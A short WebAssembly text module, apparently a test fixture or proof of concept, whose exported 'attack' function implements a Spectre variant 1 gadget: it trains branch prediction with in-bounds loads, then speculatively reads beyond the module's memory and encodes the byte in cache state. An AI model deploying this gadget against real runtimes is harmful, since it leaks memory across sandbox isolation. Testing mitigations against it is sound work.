;; A guest that reads beyond its memory where the processor guesses (Spectre, variant 1).
;; Page 0 is zero; what a byte was is seen by which line from 65536 on is in the cache.
;; SPDX-License-Identifier: Apache-2.0
(module
  (memory (export "memory") 3 3)
  ;; 29 good loads, then one of `beyond`, which traps; which it is is chosen without a branch.
  (func (export "attack") (param $beyond i32) (param $good i32) (result i32)
    (local $i i32) (local $wait i32) (local $sum i32)
    (local.set $i (i32.const 29))
    (loop $again
      (local.set $wait (i32.const 60))
      (loop $waiting
        (local.set $wait (i32.sub (local.get $wait) (i32.const 1)))
        (br_if $waiting (local.get $wait)))
      (local.set $sum
        (i32.add (local.get $sum)
          (i32.load8_u offset=65536
            (i32.shl
              (i32.load8_u
                (i32.xor (local.get $good)
                  (i32.and (i32.sub (i32.const 0) (i32.eqz (local.get $i)))
                    (i32.xor (local.get $good) (local.get $beyond)))))
              (i32.const 9)))))
      (local.set $i (i32.sub (local.get $i) (i32.const 1)))
      (br_if $again (i32.ge_s (local.get $i) (i32.const 0))))
    (local.get $sum)))
